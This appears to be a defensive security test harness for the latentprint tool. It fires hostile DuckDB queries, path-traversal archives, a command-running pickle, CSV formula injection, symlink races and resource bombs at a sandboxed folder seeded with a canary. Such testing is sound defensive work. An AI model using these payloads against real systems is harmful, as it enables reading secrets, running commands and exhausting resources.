# ruff: noqa: S608  # the queries here are meant to
"""What do hostile queries, runs, names and stores reach? Every attack is one command, in a world of its own.

    python -m tests.studies.escapes > tests/studies/results/escapes.json       # most of an hour of two cores
    python -m tests.studies.escapes sql.read store                             # attacks whose name begins so

A world is a folder with a run, files that nobody may touch, a home, and a canary in those files and in the environment.
What came of an attack: ``refused`` (exit code 2), ``harmless`` (any other end; nothing was reached), ``through`` (the
canary came out, a file changed that may not change, a control character was printed, a connection was opened),
``crashed`` (a traceback, or a signal), ``hung``. Progress on standard error; Ctrl-C ends
the study with what it has.
"""

from __future__ import annotations

import http.client
import io
import itertools
import json
import logging
import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tarfile
import threading
import time
import traceback
import unicodedata
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any, NamedTuple
from urllib.parse import quote

import numpy as np
import psutil
import pyarrow as pa
import pyarrow.fs as pafs
import pyarrow.parquet as pq
import torch
from diffusers import DDPMPipeline
from PIL import Image
from sklearn.datasets import load_digits

import latentprint
from latentprint.flows.cli.server import configure_environment, prefect_server
from latentprint.tasks.diffusion.training import Trainer, build_unet
from latentprint.tasks.pages.formats import visible_lines
from latentprint.tasks.parameters import ShardParameters
from latentprint.tasks.shard import shard_split
from latentprint.tasks.store.run import RunDirectory
from tests.store.runs import reseal

CANARY = "canary-71d2"
HANGS_AFTER = 150.0
QUERY_SECONDS = "3"
CONTROLS = "\x1b\x9b\x00\x7f\u202e\u2066\ufeff"
SQL = ("sql", "--timeout", QUERY_SECONDS, "--run", "{run}")
ASK, TAKE_IN = "ask", "take in"
"""In place of a command, in this process: ``latentprint.open_run(...).query``, and what ``shard`` does to a source."""


class World(NamedTuple):
    """Where one attack takes place; ``run`` and all beside it are copies."""

    root: Path
    store: str
    """Options of a location in the store."""
    port: int
    """Where nobody may call."""

    @property
    def run(self) -> RunDirectory:
        return RunDirectory(self.root / "run")

    @property
    def out(self) -> Path:
        return self.root / "out"

    @property
    def victim(self) -> Path:
        return self.root / "victim"

    def filled(self, text: str) -> str:
        words = {"run": self.run.path, "out": self.out, "victim": self.victim, "world": self.root, "store": self.store}
        for name, value in {**words, "port": self.port, "inputs": self.root.parent / "inputs"}.items():
            text = text.replace(f"{{{name}}}", str(value))
        return text


Plant = Callable[[World], object]


class Attack(NamedTuple):
    """One command; before it, what the attacker supplies."""

    name: str
    command: tuple[str, ...]
    plant: Plant = lambda world: None
    may_write: tuple[str, ...] = ()
    """Beginnings of paths within the world that this command is there to write."""


# queries

COPY = "COPY (SELECT 9 AS a) TO '{victim}/secret.csv' (USE_TMP_FILE false)"
DOUBLED = COPY.replace("'", "''")
WRITES = [
    COPY,
    "COPY manifest TO '{run}/manifest.parquet' (USE_TMP_FILE false)",
    "COPY manifest FROM '{run}/manifest.parquet'",
    "COPY (SELECT 1) TO PROGRAM 'touch {victim}/x'",
    "EXPORT DATABASE '{victim}/x'",
    "IMPORT DATABASE '{victim}'",
    "ATTACH '{victim}/x.db'",
    "ATTACH 'https://127.0.0.1:{port}/x.db'",
    "INSTALL httpfs FROM 'http://127.0.0.1:{port}'",
    "FORCE INSTALL '{victim}/x.duckdb_extension'",
    "LOAD '{victim}/x.duckdb_extension'",
    "PRAGMA enable_profiling",
    "PRAGMA database_list",
    "SET enable_external_access = true",
    "SET VARIABLE readable = ['{victim}/secret.csv']",
    "SET SESSION home_directory = '{victim}'",
    "RESET GLOBAL lock_configuration",
    "CALL enable_logging(storage = 'file', storage_path = '{victim}/log')",
    "CREATE MACRO f() AS TABLE FROM read_text('{victim}/secret.csv')",
    "CREATE SECRET (TYPE http, BEARER_TOKEN 'x')",
    "CREATE TYPE t AS ENUM (FROM read_text('{victim}/secret.csv'))",
    "PREPARE p AS SELECT 1",
    "EXECUTE IMMEDIATE 'SELECT 1'",
    "SELECT 1; " + COPY,
    "SELECT 1\x0b;\x0c" + COPY,
    "SELECT 1 -- \r;" + COPY,
    "SELECT 1 /* /* */ ; */ ; " + COPY,
    "SELECT $$ ; $$; " + COPY,
    "SELECT 1\u00a0;\u2028" + COPY,
    f"WITH a AS ({COPY}) FROM a",
    f"WITH a AS MATERIALIZED ({COPY}) SELECT 1",
    f"WITH RECURSIVE a AS ({COPY} UNION ALL FROM a) FROM a",
    f"SELECT (WITH a AS ({COPY}) SELECT 1 FROM a)",
    "WITH a AS (DELETE FROM manifest RETURNING *) FROM a",
    f"EXPLAIN ANALYZE {COPY}",
    f"EXPLAIN (ANALYZE, FORMAT json) {COPY}",
    f"explain\nanalyze\nwith a as ({COPY}) from a",
    f"EXPLAIN EXPLAIN ANALYZE {COPY}",
    f"DESCRIBE {COPY}",
    f"SUMMARIZE WITH a AS ({COPY}) FROM a",
    f"FROM json_execute_serialized_sql(json_serialize_sql('WITH a AS ({DOUBLED}) FROM a'))",
    f"FROM \"JSON_EXECUTE_SERIALIZED_SQL\"(json_serialize_sql('WITH a AS ({DOUBLED}) FROM a'))",
    "PRAGMA json_execute_serialized_sql('{}')",
    f"FROM query('{DOUBLED}')",
    f"FROM system.main.query('WITH a AS ({DOUBLED}) FROM a')",
    f"SELECT '{DOUBLED}'.query()",
    "FROM query_table(['/etc/passwd'])",
    "FROM sql_auto_complete('SELECT ')",
    "FROM from_substrait('\\x00'::BLOB)",
    "SELECT write_log('x', level := 'error')",
    "SELECT add_parquet_key('k', '0123456789112345')",
    "SELECT setseed(0.5), nextval('s'), txid_current()",
    "FROM checkpoint()",
    "FROM force_checkpoint()",
    "FROM truncate_duckdb_logs()",
    "FROM enable_profiling(save_location = '{victim}/p.json')",
]
READS = [
    "FROM read_text('{victim}/secret.csv')",
    "FROM read_blob('{victim}/secret.csv')",
    "FROM read_csv('{victim}/secret.csv')",
    "FROM read_csv_auto('{run}/../victim/secret.csv')",
    "FROM read_json_objects('{victim}/secret.json')",
    "FROM read_ndjson_auto('{victim}/secret.json')",
    "FROM read_parquet('{victim}/secret.parquet')",
    "FROM parquet_scan('{victim}/*.parquet')",
    "FROM parquet_kv_metadata('{victim}/secret.parquet')",
    "FROM parquet_full_metadata('{victim}/secret.parquet')",
    "FROM read_duckdb('{victim}/secret.db')",
    "FROM '{victim}/secret.csv'",
    'FROM "{victim}/secret.parquet"',
    'FROM "file:{victim}/secret.parquet"',
    "FROM '../victim/secret.parquet'",
    "DESCRIBE '{victim}/secret.csv'",
    "SUMMARIZE '{victim}/secret.csv'",
    "FROM [{victim}/secret.csv]",
    "PIVOT '{victim}/secret.csv' ON a",
    "SELECT (FROM '{victim}/secret.csv')",
    'WITH "{victim}/secret.csv" AS (FROM \'{victim}/secret.csv\') FROM "{victim}/secret.csv"',
    "FROM manifest JOIN '{victim}/secret.parquet' ON true",
    "FROM glob('{victim}/*')",
    "SELECT * FROM sniff_csv('{victim}/secret.csv')",
    "FROM read_text('/proc/self/environ')",
    "FROM read_text('/proc/1/environ')",
    "SELECT getenv('LATENTPRINT_CANARY')",
    "SELECT getvariable('readable')",
    "SELECT current_setting('allowed_paths')",
    "SHOW allowed_paths",
    "FROM duckdb_settings()",
    "FROM duckdb_variables()",
    "FROM duckdb_secrets(redact = false)",
    "FROM which_secret('s3://b', 's3')",
    "FROM duckdb_logs",
    "FROM pragma_database_list",
    "FROM information_schema.schemata",
    "FROM sqlite_master",
    "FROM pg_catalog.pg_settings",
    "FROM 'http://127.0.0.1:{port}/x.parquet'",
    "FROM read_parquet('s3://127.0.0.1:{port}/x.parquet')",
    "FROM read_csv('hf://datasets/a/b.csv')",
    "FROM postgres_scan('host=127.0.0.1 port={port}', 'a', 'b')",
    "FROM sqlite_scan('{victim}/secret.db', 'a')",
    "FROM python_arrow_scan()",
    "FROM arrow_scan(1, 2, 3)",
    "FROM pandas_scan(0)",
    "FROM connection",
    'FROM "{victim}\uff0fsecret\uff0ecsv"',
    "FROM ' {victim}/secret.csv'",
    "FROM U&'{victim}/secret.csv'",
    "FROM e'{victim}/secret\\x2ecsv'",
    "FROM $${victim}/secret.csv$$",
    "FROM manifest AT (VERSION => 1)",
    "SELECT COLUMNS(c -> (SELECT true FROM read_text('{victim}/secret.csv'))) FROM manifest",
    "SELECT list_transform([1], lambda x: (FROM read_text('{victim}/secret.csv')))",
    "SELECT error((SELECT content FROM read_text('{victim}/secret.csv')))",
    "SELECT content::INTEGER FROM read_text('{victim}/secret.csv')",
    "EXPLAIN ANALYZE FROM read_text('{victim}/secret.csv')",
]
BOMBS = [
    "SELECT count(*) FROM range(1000000000000)",
    "FROM range(1000000000000)",
    "SELECT NULL FROM range(1000000000000)",
    "SELECT count(*) FROM range(1000000000) AS a, range(1000000000) AS b",
    "WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM t) SELECT max(i) FROM t",
    "WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT 1 FROM t, range(2)) FROM t",
    "SELECT repeat('x', 4000000000)",
    "SELECT lpad('x', 2000000000, 'y')",
    "SELECT printf('%2000000000d', 1)",
    "SELECT list_resize([1], 1000000000)",
    "SELECT range(1000000000000)",
    "SELECT list(range) FROM range(10000000000)",
    "SELECT string_agg(range, '') FROM range(10000000000)",
    "SELECT list_reduce(range(1000000), lambda x, y: x + y) FROM range(1000000)",
    "SELECT json_group_array(range) FROM range(10000000000)",
    "SELECT histogram(range) FROM range(10000000000)",
    "SELECT sleep_ms(1000000)",
    "SELECT levenshtein(repeat('a', 1000000), repeat('b', 1000000))",
    "SELECT regexp_matches(repeat('a', 10000000), '(a*)*(a*)*b')",
    "SELECT factorial(1000000)",
    "SELECT pow(9, 1000000)::HUGEINT",
    "SELECT max(p) FROM (SELECT row_number() OVER (ORDER BY md5(range::VARCHAR)) p FROM range(10000000000))",
    "SELECT " + "(" * 20_000 + "1" + ")" * 20_000,
    "SELECT " + "[" * 5_000 + "1" + "]" * 5_000,
    "SELECT " + "NOT " * 30_000 + "true",
    "SELECT " + "-" * 5 + "(" * 900 + "1" + ")" * 900,
    "SELECT " + " + ".join(["1"] * 20_000),
    "SELECT " + "x" * 100_000 + "(1)",
    "SELECT '" + "{" * 50_000 + "'::JSON",
    "SELECT " + ", ".join(f"1 AS c{i}" for i in range(8_000)),
    "FROM " + " JOIN ".join(f"images i{i}" for i in range(400)),
    "WITH " + ", ".join(f"t{i} AS (FROM t{i - 1}, t{i - 1} b)" if i else "t0 AS (SELECT 1)" for i in range(60))
    + " SELECT count(*) FROM t59",
    "FROM manifest TABLESAMPLE reservoir(1000000000 ROWS)",
    "SELECT 'x'::" + "STRUCT(a " * 900 + "INTEGER" + ")" * 900,
    "FROM test_all_types()",
]  # fmt: skip
PRINTED = [
    "SELECT 'a' || chr(27) || '[2J' AS \"b\x1b]0;x\x07\"",
    "SELECT chr(155) || '31m', chr(8238), chr(8294), chr(0), chr(127)",
    "SELECT error('x' || chr(27) || '[31m')",
    "SELECT ('x' || chr(27) || '[31m')::INTEGER",
    'SELECT 1 AS "\x1b[31m", 2 AS "\x1b[31m"',
    "SELECT \"no such \x1b[31m column\"",
    "SELECT map(['\x1b'], [chr(27)]), {'a': chr(27)}, [chr(27)]",
]  # fmt: skip


def queries() -> Iterator[Attack]:
    """Every query through the command line; some through the other doors."""
    for text in WRITES:
        yield Attack(f"sql.write: {text}", (ASK, text))
    for text in READS:
        yield Attack(f"sql.read: {text}", (ASK, text))
    for text in BOMBS:
        yield Attack(f"sql.bomb: {text}", (*SQL, "--format", "csv", text))
    for output, text in itertools.product(("table", "csv", "json"), PRINTED):
        yield Attack(f"sql.print {output}: {text}", (*SQL, "--format", output, text))
    for text in (WRITES[0], WRITES[29], WRITES[40], READS[0], READS[11], BOMBS[6]):
        yield Attack(f"sql.command: {text}", (*SQL, text))
        yield Attack(f"sql.runs: {text}", ("sql", "--timeout", QUERY_SECONDS, "--runs", "{run}*", text))
        curating = ("curate", "--run", "{run}", "--out", "{out}/set", "--action", "drop", "--images", text)
        yield Attack(f"sql.curate: {text}", curating, may_write=("out/",))
    for text in ("\x00", "SELECT 1\x00; " + COPY, "\ufeff" + COPY):
        yield Attack(f"sql.file: {text}", (*SQL, "--file", "{world}/q.sql"), written("q.sql", text.encode()))
    yield Attack("sql.file: not UTF-8", (*SQL, "--file", "{world}/q.sql"), written("q.sql", b"SELECT '\xff'"))
    for name in ("../../../victim/secret", "{victim}/secret", "", "flagged_images; " + COPY):
        yield Attack(f"sql.saved: {name}", (*SQL, "--query", name))
    for place in ("{victim}", "{victim}/secret.csv/x", "{world}/pipe/x"):
        yield Attack(f"sql.out: {place}", (*SQL, "--out", place, "FROM images"), pipe("pipe"))
    for option in ("--out", "--export"):
        attack = (*SQL, option, "{out}/link", *(["FROM images"] if option == "--out" else []))
        yield Attack(f"sql.out: {option} on a link", attack, link("out/link", "victim/secret.csv"), ("out/",))


# runs that somebody else supplies


def written(name: str, content: bytes) -> Plant:
    """A file of the world."""

    def plant(world: World) -> None:
        path = world.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.write_bytes(world.filled(content.decode("latin-1")).encode("latin-1"))

    return plant


def _gone(path: Path) -> Path:
    shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def link(name: str, target: str) -> Plant:
    """A symbolic link to a file or folder of the world."""
    return lambda world: _gone(world.root / name).symlink_to(world.root / target)


def pipe(name: str) -> Plant:
    """A pipe, which whoever opens it waits for."""
    return lambda world: os.mkfifo(_gone(world.root / name))


def hard_link(name: str, target: str) -> Plant:
    """Another name of a file."""
    return lambda world: os.link(world.root / target, _gone(world.root / name))


def both(*plants: Plant) -> Plant:
    """One after the other."""
    return lambda world: [plant(world) for plant in plants]


def sums(line: bytes) -> Plant:
    """A further line of SHA256SUMS."""

    def plant(world: World) -> None:
        with world.run.checksums.open("ab") as stream:
            stream.write(world.filled(line.decode("latin-1")).encode("latin-1"))

    return plant


def manifest(column: str, value: str) -> Plant:
    """Every row of the manifest says so, and the sums agree."""

    def plant(world: World) -> None:
        table = pq.read_table(world.run.manifest)
        values = pa.array([world.filled(value)] * len(table))
        place = table.schema.get_field_index(column)
        pq.write_table(table.set_column(place, table.schema.field(place), values), world.run.manifest)
        reseal(world.run)

    return plant


def column(name: str) -> Plant:
    """Every part has a column of this name, and the sums agree."""

    def plant(world: World) -> None:
        for part in world.run.scores.iterdir():
            table = pq.read_table(part)
            pq.write_table(table.append_column(name, pa.array([1.0] * len(table))), part)
        reseal(world.run)

    return plant


PART = "scores/part-train-000000.parquet"
READERS: dict[str, tuple[str, ...]] = {
    "sql": (*SQL, "FROM images"),
    "sql --export": (*SQL, "--export", "{out}/x.db"),
    "gate": ("gate", "--run", "{run}", "--max-auc", "0.6", "--out", "{out}/v.json", "--junit", "{out}/j.xml"),
    "verify": ("verify", "--run", "{run}"),
    "report": ("report", "--run", "{run}"),
}
WRITTEN: tuple[str, ...]
WRITTEN = ("out/", "run/report.html", "run/tables/", "run/SHA256SUMS", "run/run.json", "run/evidence.json", "run/.lock")
WRITTEN = (*WRITTEN, "run/flags.parquet")


def runs() -> Iterator[Attack]:
    """Files of a run that are none, or are somewhere else; names in its tables and sums."""
    names = ("manifest.parquet", PART, "run.json", "evidence.json", "SHA256SUMS", ".remote.json")
    for name, (reader, command) in itertools.product(names, READERS.items()):
        if reader != "report" or name == PART:
            yield Attack(f"run: {name} a pipe, {reader}", command, pipe(f"run/{name}"), WRITTEN)
    for name in ("manifest.parquet", "scores", "shards"):
        for reader, command in list(READERS.items())[:-1]:
            target = "victim/secret.parquet" if "." in name else "victim"
            yield Attack(f"run: {name} a link, {reader}", command, link(f"run/{name}", target), WRITTEN)
    private = both(lambda world: world.run.flags.rename(world.victim / "own.parquet"),
                   link("run/flags.parquet", "victim/own.parquet"))  # fmt: skip
    yield Attack("run: flags a link to another run's, sql --export", READERS["sql --export"], private, ("victim/",))
    devices = both(pipe(f"run/{PART}"), link(f"run/{PART}", "../../../../../../dev/zero"))
    for reader in ("sql", "gate", "verify"):
        yield Attack(f"run: a part is /dev/zero, {reader}", READERS[reader], devices, WRITTEN)
    for line in (
        b"../victim/secret.csv", b"scores/../../victim/secret.csv", b"{victim}/secret.csv", b"scores//../../x",
        b"scores/a\x00b", b"scores/\x1b[31m", b"scores/part-\xff.parquet", b"x" * 10_000_000, b"..\\victim\\x", b"C:/x",
        b"scores/" + unicodedata.normalize("NFD", "é").encode(), b"nul", b"scores/.part-x.parquet", b"scores/\r",
    ):  # fmt: skip
        yield Attack(f"run: SHA256SUMS has {line[:40]!r}", READERS["verify"], sums(b"0" * 64 + b"  " + line + b"\n"))
    scoring = ("score", "--run", "{run}", "--model", "{inputs}/model", "--timestep", "20", "--threads", "1")
    for line in (b"scores/../../victim/secret.csv", b"scores/link/secret.parquet"):
        plants = both(sums(b"0" * 64 + b"  " + line + b"\n"), link("run/scores/link", "victim"))
        yield Attack(f"run: SHA256SUMS has {line!r}, score", scoring, plants, ("run/", "out/"))
    cleaning = ("curate", "--run", "{run}", "--out", "{out}/set", "--action", "drop", "--images")
    for name, value in (
        ("shard", "../../victim/x.tar"), ("shard", "{victim}/x.tar"), ("shard", "a/\x00.tar"),
        ("sample_id", "../\x1b[31m"),
        ("sample_id", "=cmd|' /C calc'!A0"), ("source_uri", "{victim}/secret.csv"), ("label", "\x1b[31m\u202e"),
    ):  # fmt: skip
        hostile = manifest(name, value)
        yield Attack(f"run: {name} is {value!r}, sql", (*SQL, "--format", "csv", "FROM manifest"), hostile)
        yield Attack(f"run: {name} is {value!r}, verify", READERS["verify"], hostile)
        if name == "shard":
            yield Attack(f"run: {name} is {value!r}, curate", (*cleaning, "FROM ranking LIMIT 1"), hostile, ("out/",))
    for name in ('x", 42 AS "y', 'status", (SELECT sum(range) FROM range(1000000000000)) AS "y', "\x1b[31m", "a;--"):
        for reader, command in READERS.items():
            if reader in ("gate", "verify") or (reader == "report" and "SELECT" not in name):
                continue
            yield Attack(f"run: a column {name!r}, {reader}", command, column(name), WRITTEN)
    for content in (b"[]", b"[" * 100_000, b'{"url": "\\u001b[31m"}'):
        hostile = written("run/.remote.json", content)
        yield Attack(f"run: .remote.json is {content[:20]!r}, report", READERS["report"], hostile, WRITTEN)
    for text in (b"a = " + b"[" * 100_000, b"[[waiver]]\nrule = [1]", b"\xff", b'[[waiver]]\nreason = "\\u001b[31m"'):
        gate = (*READERS["gate"], "--waivers", "{world}/w.toml")
        yield Attack(f"run: waivers {text[:30]!r}", gate, written("w.toml", text), WRITTEN)
    yield Attack("run: waivers are a pipe", (*READERS["gate"], "--waivers", "{world}/w.toml"), pipe("w.toml"), WRITTEN)


# folders that are written to


def marked(kind: str, *plants: Plant) -> Plant:
    """A folder that claims to be ours."""
    return both(written("out/run/.latentprint", json.dumps({"kind": kind}).encode()), *plants)


def flipping(world: World) -> None:
    """A race: the lock is a link to a victim, and none, for as long as the attack lasts."""
    lock = world.root / "out/run/.lock"
    lock.parent.mkdir(parents=True)

    def work() -> None:
        other = world.root / "flip"
        while world.root.exists():
            for make in (lambda: other.symlink_to(world.victim / "secret.csv"), lambda: other.write_bytes(b"")):
                try:
                    make()
                    other.replace(lock)
                except OSError:
                    return

    threading.Thread(target=work, daemon=True).start()


def temporaries(world: World) -> None:
    """A link to a victim under the temporary name that a file has in any process to come."""
    marked("run")(world)
    for number in range(psutil.Process().pid, psutil.Process().pid + 3_000):
        (world.root / f"out/run/.run.json.{number}.tmp").symlink_to(world.victim / "secret.csv")


def folders() -> Iterator[Attack]:
    """``--out``, ``--reuse``, ``--before`` on what is not ours."""
    shard = ("shard", "--train", "{inputs}/train.npy", "--out", "{out}/run")
    ours = ("out/run/",)
    record = b'{"data": {"sources": %s, "fingerprints": {}}}'
    for name, plant in {
        "photos": written("out/run/a.jpg", b"mine"),
        "a cleaned set": marked("cleaned set"),
        "a marker that is a link": link("out/run/.latentprint", "run/.latentprint"),
        "a marker that is a pipe": pipe("out/run/.latentprint"),
        "a link to a folder of others": link("out/run", "victim"),
    }.items():
        yield Attack(f"out: {name}", shard, plant)
    for name, plant in {
        "the lock is a link": link("out/run/.lock", "victim/secret.csv"),
        "the lock is a hard link": hard_link("out/run/.lock", "victim/secret.csv"),
        "the lock is a pipe": pipe("out/run/.lock"),
        "shards are a link": link("out/run/shards", "victim"),
        "run.json is a link": link("out/run/run.json", "victim/secret.json"),
        "run.json is a hard link": hard_link("out/run/run.json", "victim/empty.json"),
        "the manifest is a hard link": hard_link("out/run/manifest.parquet", "victim/secret.parquet"),
        "the manifest is a pipe": pipe("out/run/manifest.parquet"),
        "SHA256SUMS is a pipe": pipe("out/run/SHA256SUMS"),
        "run.json is a pipe": pipe("out/run/run.json"),
        "sources are a list": written("out/run/run.json", record % b"[1]"),
        "sources are a number": written("out/run/run.json", record % b"1"),
        "a source climbs": written("out/run/run.json", record % b'{"../../victim/secret": "x"}'),
        "a source is a pattern": written("out/run/run.json", record % b'{".*": "x"}'),
        "data is a list": written("out/run/run.json", b'{"data": []}'),
    }.items():
        yield Attack(f"out: ours, but {name}", shard, marked("run", plant), ours)
    yield Attack("out: temporary files are links", shard, temporaries, ours)
    yield Attack("out: a race for the lock", shard, flipping, (*ours, "flip"))
    train = ("train", "--data", "{inputs}/train.npy", "--out", "{out}/run", "--steps", "1", "--samples", "2")
    state = b"cos\nsystem\n(S'echo canary > {victim}/x'\ntR."
    pickled = marked("model", written("out/run/training-state.pt", state))
    yield Attack("out: a training state is a pickle", train, pickled, ours)
    for name, plant in (("a pipe", pipe("w.parquet")), ("no Parquet", written("w.parquet", b"x"))):
        yield Attack(f"out: weights are {name}", (*train, "--weights", "{world}/w.parquet"), plant, ours)
    cleaning = (
        "curate",
        "--run",
        "{run}",
        "--out",
        "{out}/run",
        "--action",
        "drop",
        "--images",
        "FROM ranking LIMIT 1",
    )
    for name in ("curation.json", ".latentprint-building/publishing.json"):
        yield Attack(f"out: {name} is a pipe", cleaning, marked("cleaned set", pipe(f"out/run/{name}")), ours)
    climbing = written("out/run/.latentprint-building/publishing.json", b'{"../../victim/secret.csv": [1, 2, 3]}')
    yield Attack("out: what was published climbs", cleaning, marked("cleaned set", climbing), ours)
    audit: tuple[str, ...] = (
        "audit",
        "--model",
        "{inputs}/model",
        "--train",
        "{inputs}/train.npy",
        "--holdout",
        "{inputs}/holdout.npy",
    )
    audit = (*audit, "--timestep", "20", "--threads", "1", "--validity", "0", "--out", "{out}/run")
    for option, name in itertools.product(("--reuse", "--before"), ("run.json", "manifest.parquet", PART)):
        yield Attack(f"out: {option} with {name} a pipe", (*audit, option, "{run}"), pipe(f"run/{name}"), ours)
    shards = both(lambda world: shutil.copytree(world.run.shards, world.victim / "shards"),
                  link("run/shards", "victim/shards"))  # fmt: skip
    yield Attack("out: --reuse with shards elsewhere", (*audit, "--reuse", "{run}"), shards, (*ours, "victim/shards"))


# archives


def png() -> bytes:
    """A picture."""
    stream = io.BytesIO()
    Image.fromarray(np.arange(64, dtype=np.uint8).reshape(8, 8)).save(stream, "PNG")
    return stream.getvalue()


def tar(*members: tuple[str, bytes, str]) -> Plant:
    """``in.tar`` of these (name, kind, link target), each a picture where it is a file; a good picture last."""

    def plant(world: World) -> None:
        with tarfile.open(world.root / "in.tar", "w", format=tarfile.PAX_FORMAT) as archive:
            for name, kind, target in (*members, ("last.png", tarfile.REGTYPE, "")):
                member = tarfile.TarInfo(world.filled(name))
                member.type, member.linkname = kind, world.filled(target)
                member.size = len(png()) if kind == tarfile.REGTYPE else 0
                archive.addfile(member, io.BytesIO(png()))

    return plant


def archive(name: str) -> Plant:
    """``in.zip`` with a picture under this name, and a link."""

    def plant(world: World) -> None:
        with zipfile.ZipFile(world.root / "in.zip", "w") as stream:
            stream.writestr(world.filled(name), png())
            info = zipfile.ZipInfo("link.png")
            info.external_attr = 0o120777 << 16
            stream.writestr(info, world.filled("{victim}/secret.png"))

    return plant


HOSTILE = ("../victim/x.png", "{victim}/x.png", "a/../../victim/x.png", "..\\victim\\x.png", "C:\\x.png", "C:x.png",
           "a\x1b[31m.png", "a\nb.png", ".ssh/x.png", "nul.png", "//server/x.png", "~/x.png", "a" * 5000 + ".png",
           "=1+1.png", "<script>.png")  # fmt: skip


def archives() -> Iterator[Attack]:
    """Members that would lie elsewhere, or are no files."""
    out = ("--out", "{out}/run")
    wanted = ("out/run/",)
    for name in HOSTILE:
        hostile = tar((name, tarfile.REGTYPE, ""))
        yield Attack(f"tar: {name[:40]!r}", (TAKE_IN, "{world}/in.tar"), hostile, wanted)
    for name in (HOSTILE[0], HOSTILE[1], HOSTILE[3], HOSTILE[6]):
        yield Attack(f"zip: {name!r}", (TAKE_IN, "{world}/in.zip"), archive(name), wanted)
    composed, decomposed = (unicodedata.normalize(form, "é.png") for form in ("NFC", "NFD"))
    for name, members in {
        "a link and a file through it": (("d", tarfile.SYMTYPE, "{victim}"), ("d/x.png", tarfile.REGTYPE, "")),
        "a link to a file": (("x.png", tarfile.SYMTYPE, "{victim}/secret.png"),),
        "a hard link": (("x.png", tarfile.LNKTYPE, "{victim}/secret.png"),),
        "a device": (("x.png", tarfile.CHRTYPE, ""),),
        "a pipe": (("x.png", tarfile.FIFOTYPE, ""),),
        "two forms of one name": ((composed, tarfile.REGTYPE, ""), (decomposed, tarfile.REGTYPE, "")),
        "one name twice": (("x.png", tarfile.REGTYPE, ""), ("x.png", tarfile.REGTYPE, "")),
    }.items():
        yield Attack(f"tar: {name}", (TAKE_IN, "{world}/in.tar"), tar(*members), wanted)
    yield Attack("tar: the archive is a pipe", ("shard", "--train", "{world}/in.tar", *out), pipe("in.tar"), wanted)
    yield Attack("tar: pipe:command", ("shard", "--train", "pipe:touch {victim}/x", *out), may_write=wanted)


# stores

_numbers = itertools.count()


def put(options: str, path: str, content: bytes) -> None:
    """An object under exactly this name."""
    connection = http.client.HTTPConnection(options.partition("endpoint_override=")[2].partition("&")[0])
    connection.request("PUT", f"/{quote(path, safe='/')}", body=content)
    assert connection.getresponse().status == 200


def stores() -> Iterator[Attack]:
    """Names of objects."""
    record = b'{"data": {"sources": {}, "fingerprints": {}}}'
    for name in (
        "../../../../home/.bashrc", "../../../victim/secret.csv", "scores/../../../../victim/x", "..", "scores/./x",
        "a//b",
        "scores\\..\\x", "C:/x", "a\x1b[31m", "nul", "con.txt", "x" * 300, ".lock", ".remote.json",
        ".ssh/authorized_keys",
        unicodedata.normalize("NFD", "é"), "scores/part-\u202e.parquet", "run.json/x", "SHA256SUMS/x", "shards/x.tar/y",
    ):  # fmt: skip
        folder = f"runs/hostile-{next(_numbers)}"

        def plant(world: World, folder: str = folder, name: str = name) -> None:
            put(world.store, f"{folder}/run.json", record)
            put(world.store, f"{folder}/{name}", b"evil")

        yield Attack(f"store: {name[:40]!r}", ("verify", "--run", f"s3://{folder}{{store}}"), plant, ("staging/",))
    for url in (
        "s3://runs/..",
        "s3://runs/a/../../x",
        "s3://runs/.hidden",
        "s3://runs/C:",
        "file://{victim}",
        "s3://runs/a%2f..",
    ):
        yield Attack(f"store: {url}", ("verify", "--run", f"{url}{{store}}"), may_write=("staging/",))


ATTACKS = (queries, runs, folders, archives, stores)


class Result(NamedTuple):
    """What came of an attack."""

    attack: str
    kind: str
    seconds: float
    words: str


def inputs(folder: Path) -> None:
    """Images, a checkpoint that learned next to nothing, and an audited run of them."""
    digits = (load_digits().images / 16.0 * 255.0).round().astype(np.uint8)
    np.save(folder / "train.npy", np.concatenate([digits[:40], digits[:8]]))
    np.save(folder / "holdout.npy", digits[100:140])
    torch.manual_seed(0)
    images = torch.from_numpy(digits[:60, None]).float() / 127.5 - 1.0
    trainer = Trainer(
        build_unet(1, 8, (8, 16)), images, n_steps=20, batch_size=64, learning_rate=5e-3, ema_decay=0.9, seed=0
    )
    DDPMPipeline(trainer.averaged_network(), trainer.scheduler).save_pretrained(folder / "model")
    command = [sys.executable, "-m", "latentprint", "audit", "--model", folder / "model", "--out", folder / "run"]
    command += ["--train", folder / "train.npy", "--holdout", folder / "holdout.npy"]
    command += ["--timestep", "20", "--threads", "1", "--validity", "0", "--extract", "16"]
    subprocess.run(list(map(str, command)), check=True, capture_output=True)


def new_world(folder: Path, store: str, port: int) -> World:
    """Victims, a home, and a copy of the run."""
    world = World(folder / "world", store, port)
    shutil.rmtree(world.root, ignore_errors=True)
    for name in ("victim", "home", "out", "tmp", "staging"):
        (world.root / name).mkdir(parents=True)
    shutil.copytree(folder / "inputs" / "run", world.run.path)
    (world.victim / "secret.csv").write_text(f"a\n{CANARY}\n")
    (world.victim / "secret.json").write_text(json.dumps({"a": CANARY}))
    (world.victim / "empty.json").write_text("{}")
    (world.victim / "secret.png").write_bytes(png())
    pq.write_table(pa.table({"a": [CANARY]}), world.victim / "secret.parquet")
    (world.root / "home" / ".bashrc").write_text(CANARY)
    return world


def seen(world: World) -> dict[str, tuple[int, bytes]]:
    """Every path of the world but its folders and what is temporary, with its mode and content."""
    found = {}
    for path in world.root.rglob("*"):
        name, status = path.relative_to(world.root).as_posix(), path.lstat()
        if path.is_symlink() or not path.is_dir():
            regular = path.is_file() and not path.is_symlink()
            content = path.read_bytes() if regular else os.readlink(path).encode() if path.is_symlink() else b""
            found[name] = (status.st_mode, content)
    return found


@contextmanager
def listening() -> Iterator[tuple[int, list[object]]]:
    """A port of this machine, and everyone who called there."""
    callers: list[object] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def work() -> None:
            while True:
                try:
                    connection, address = server.accept()
                except OSError:
                    return
                callers.append(address)
                connection.close()

        threading.Thread(target=work, daemon=True).start()
        yield server.getsockname()[1], callers


